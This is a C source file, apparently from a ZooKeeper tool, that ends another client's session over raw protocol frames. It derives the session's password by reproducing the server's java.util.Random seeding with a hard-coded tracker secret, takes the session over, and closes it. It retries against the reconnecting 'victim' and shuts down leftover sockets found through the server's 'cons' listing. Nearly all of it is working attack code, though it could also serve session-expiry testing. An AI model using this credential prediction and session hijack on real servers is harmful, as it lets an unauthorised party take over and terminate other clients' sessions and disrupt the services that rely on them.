/*
 * rawkill.c - end somebody else's session by raw frames.
 *
 * The handshake takes the session over from its owner, and the closeSession
 * behind it in the same write ends it, mostly before the owner can take it
 * back.
 */
#include "rawkill.h"
#include "net.h"
#include "raw.h"
#include "raw_conn.h"
#include "zkproto.h"

#include <inttypes.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define TRIES 100
#define ANSWER_MS 2000
/* How many descriptors are searched, and how many bytes of the server's
   list. */
#define SOCKETS 1024
#define CONNECTIONS 262144
#define SECRET INT64_C(0xB3415C00) /* of the server's SessionTracker */

/* The generator of java.util.Random, which the server seeds with the id. */
void raw_session_password(int64_t id, char *out)
{
	const uint64_t factor = UINT64_C(0x5DEECE66D);
	const uint64_t mask = (UINT64_C(1) << 48) - 1;
	uint64_t seed = ((uint64_t)(id ^ SECRET) ^ factor) & mask;

	for (int i = 0; i < RAW_PASSWORD; i += 4) {
		uint32_t bits;

		seed = (seed * factor + 0xB) & mask;
		bits = (uint32_t)(seed >> 16);
		for (int k = 0; k < 4; k++)
			out[i + k] = (char)(bits >> (8 * k));
	}
}

enum answer {
	UNKNOWN, /* the server does not know such a session */
	ENDED,
	UNCLEAR /* the connection broke */
};

static enum answer read_answers(int fd, int64_t id)
{
	struct raw_in in = { 0 };
	int rc = raw_in_read(fd, &in);

	raw_in_int(&in); /* protocol version */
	raw_in_int(&in); /* timeout */
	bool known = raw_in_long(&in) == id;
	bool heard = rc == 0 && !in.bad;
	free(in.data);
	if (!heard || !known)
		return heard ? UNKNOWN : UNCLEAR;
	rc = raw_in_read(fd, &in);
	raw_in_int(&in);  /* xid */
	raw_in_long(&in); /* zxid */
	bool ended = rc == 0 && raw_in_int(&in) == 0 && !in.bad;
	free(in.data);
	return ended ? ENDED : UNCLEAR;
}

static int send_kill(const char *address, int64_t id)
{
	char password[RAW_PASSWORD];
	struct raw_out out = { 0 };
	int fd = net_connect(address, ANSWER_MS);

	raw_session_password(id, password);
	raw_out_connect(&out, 10000, id, password);
	raw_out_begin(&out);
	raw_out_int(&out, 1); /* xid */
	raw_out_int(&out, ZK_OP_CLOSE);
	raw_out_end(&out);
	if (fd >= 0 && (out.bad || net_write(fd, out.data, out.len) < 0)) {
		close(fd);
		fd = -1;
	}
	raw_out_free(&out);
	return fd;
}

static void shut_own(int port)
{
	for (int fd = 0; fd < SOCKETS; fd++) {
		struct sockaddr_in a = { 0 };
		socklen_t len = sizeof(a);

		if (getsockname(fd, (struct sockaddr *)&a, &len) == 0 &&
			a.sin_family == AF_INET && ntohs(a.sin_port) == port)
			(void)shutdown(fd, SHUT_RDWR);
	}
}

/* A client that takes the session over right before the close is carried out
   keeps its connection, but the server then silently drops whatever is sent
   there.  The victim would notice that only by the silence, after a third of
   its timeout.  So shut such a connection down, if this process has it. */
static void shut_left_behind(const char *address, int64_t id)
{
	char *text = malloc(CONNECTIONS);
	char session[40];
	int port;

	snprintf(session, sizeof(session), "sid=0x%" PRIx64 ",", (uint64_t)id);
	if (text != NULL && fourletter(address, "cons", text, CONNECTIONS) > 0)
		for (char *line = strtok(text, "\n"); line != NULL;
			line = strtok(NULL, "\n"))
			if (strstr(line, session) != NULL &&
				sscanf(line, " /%*[^:]:%d[", &port) == 1)
				shut_own(port);
	free(text);
}

/* A server that does not know the session any more may still be about to carry
   its end out.  A new session is made behind that. */
static void await_end(const char *address)
{
	raw_close(raw_open(address, 10000));
}

/* The victim's connection ends when we take its session over.  If the victim
   comes back quickly, it takes the session from us before our close is carried
   out, and then our connection ends.  When we try again, the connection may be
   one on which nothing is answered. */
int raw_kill_session(const char *address, int64_t id)
{
	for (int i = 0; i < TRIES; i++) {
		int fd = send_kill(address, id);

		if (fd < 0)
			return -1;
		enum answer answer = read_answers(fd, id);
		close(fd);
		if (answer == UNKNOWN && i > 0) {
			await_end(address);
			answer = ENDED;
		}
		if (answer == ENDED) {
			shut_left_behind(address, id);
			return 0;
		}
		if (answer == UNKNOWN)
			return -1;
	}
	return -1;
}
